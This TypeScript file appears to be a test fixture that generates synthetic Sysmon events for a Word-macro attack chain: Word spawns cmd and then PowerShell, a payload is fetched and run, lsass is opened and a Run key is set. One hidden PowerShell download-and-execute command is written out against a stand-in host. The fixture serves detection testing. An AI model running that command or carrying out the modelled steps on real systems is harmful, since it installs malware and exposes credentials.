import { SYSTEM, person } from './build/account';
import { eventsOf } from './build/merge_worlds';
import { hashesOf } from './build/file_facts';
import { storyClock } from './build/time_text';
import { WorldHost } from './build/world_host';
import type { World } from './world';

/** A document with a macro: Word -> cmd -> PowerShell -> a program that it fetched. The smallest complete story. */
export const WORD_SPAWNS_POWERSHELL = {
  host: 'PC-SALES-07',
  started: '2024-03-05 09:14:02.118',
  user: 'EX\\yokohama.minato',
  document: 'C:\\Users\\yokohama.minato\\Downloads\\invoice_0305.docm',
  payload: 'C:\\Users\\Public\\updater.exe',
  domain: 'cdn.updates.example',
  address: '203.0.113.77',
  /** From explorer.exe to the program, the ancestors of which the last is the deepest. */
  chain: ['explorer.exe', 'WINWORD.EXE', 'cmd.exe', 'powershell.exe', 'updater.exe'],
  /** Own events of powershell.exe, per event id. */
  powershell_counts: { 1: 1, 3: 1, 5: 1, 7: 2, 11: 1, 22: 1, 29: 1 },
  total: 22,
} as const;

export interface WordFacts {
  readonly explorer: string;
  readonly word: string;
  readonly cmd: string;
  readonly powershell: string;
  readonly payload: string;
}

/** @param at when Word starts, ms; absent = the story's own time */
export function wordSpawnsPowershell(at?: number): World<WordFacts> {
  const facts = WORD_SPAWNS_POWERSHELL;
  const t = storyClock(facts.started, at);
  const host = new WorldHost({
    name: facts.host,
    machine: '3f2c91aa',
    ip: '192.168.1.57',
    sysmon: '15.15',
    seed: 'word',
    first_record_id: 48_211,
  });
  const user = person(facts.user, '0x5a3f1');
  const userinit = host.process({
    at: t('2024-03-05 08:31:10.402'),
    image: 'C:\\Windows\\System32\\userinit.exe',
    account: user,
    recorded: false,
  });
  const explorer = userinit.child({
    at: t('2024-03-05 08:31:11.037'),
    image: 'C:\\Windows\\explorer.exe',
    commandLine: 'C:\\Windows\\Explorer.EXE',
  });
  const lsass = host.process({
    at: t('2024-03-05 08:29:58.611'),
    image: 'C:\\Windows\\System32\\lsass.exe',
    account: SYSTEM,
  });
  const word = explorer
    .child({
      at: t(facts.started),
      image: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
      commandLine: `"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "${facts.document}"`,
    })
    .loads({ at: t('2024-03-05 09:14:02.096'), file: 'C:\\Windows\\System32\\ntdll.dll' }) // 22 ms before its own event 1
    .loads({
      at: t('2024-03-05 09:14:05.733'),
      file: 'C:\\Program Files\\Common Files\\microsoft shared\\VBA\\VBA7.1\\VBE7.DLL',
    })
    .setsValue({
      at: t('2024-03-05 09:14:06.010'),
      key: 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1107\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\LastPurgeTime',
      details: 'DWORD (0x01ab2f10)',
    });
  const cmd = word.child({
    at: t('2024-03-05 09:14:06.480'),
    image: 'C:\\Windows\\System32\\cmd.exe',
    commandLine:
      'cmd.exe /c powershell -w hidden -ep bypass -c "iwr https://cdn.updates.example/u.bin -o C:\\Users\\Public\\updater.exe; start C:\\Users\\Public\\updater.exe"',
  });
  const conhost = cmd.child({
    at: t('2024-03-05 09:14:06.512'),
    image: 'C:\\Windows\\System32\\conhost.exe',
    commandLine: '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
  });
  const powershell = cmd
    .child({
      at: t('2024-03-05 09:14:06.701'),
      image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      commandLine:
        'powershell -w hidden -ep bypass -c "iwr https://cdn.updates.example/u.bin -o C:\\Users\\Public\\updater.exe; start C:\\Users\\Public\\updater.exe"',
    })
    .loads({ at: t('2024-03-05 09:14:06.690'), file: 'C:\\Windows\\System32\\ntdll.dll' })
    .loads({ at: t('2024-03-05 09:14:07.020'), file: 'C:\\Windows\\System32\\amsi.dll' })
    .asksName({ at: t('2024-03-05 09:14:08.204'), name: facts.domain, results: `::ffff:${facts.address};` })
    .connects({
      at: t('2024-03-05 09:14:08.291'),
      ip: facts.address,
      port: 443,
      name: facts.domain,
      portName: 'https',
    })
    .writes({ at: t('2024-03-05 09:14:09.377'), file: facts.payload });
  const payload = powershell
    .child({
      at: t('2024-03-05 09:14:09.912'),
      image: facts.payload,
      cwd: 'C:\\Users\\yokohama.minato\\Documents\\',
      hashes: hashesOf(facts.payload),
    })
    .opens(lsass, {
      at: t('2024-03-05 09:14:11.006'),
      access: '0x1410',
      trace: 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d204|UNKNOWN(00000000001F3C2A)',
    })
    .setsValue({
      at: t('2024-03-05 09:14:11.440'),
      key: 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1107\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater',
      details: facts.payload,
    });
  powershell.ends(t('2024-03-05 09:14:10.155'));
  conhost.ends(t('2024-03-05 09:14:10.171'));
  cmd.ends(t('2024-03-05 09:14:10.174'));
  word.ends(t('2024-03-05 09:20:44.902'));
  const guids = {
    explorer: explorer.guid,
    word: word.guid,
    cmd: cmd.guid,
    powershell: powershell.guid,
    payload: payload.guid,
  };
  return { name: 'word_spawns_powershell', events: eventsOf(host), facts: guids };
}
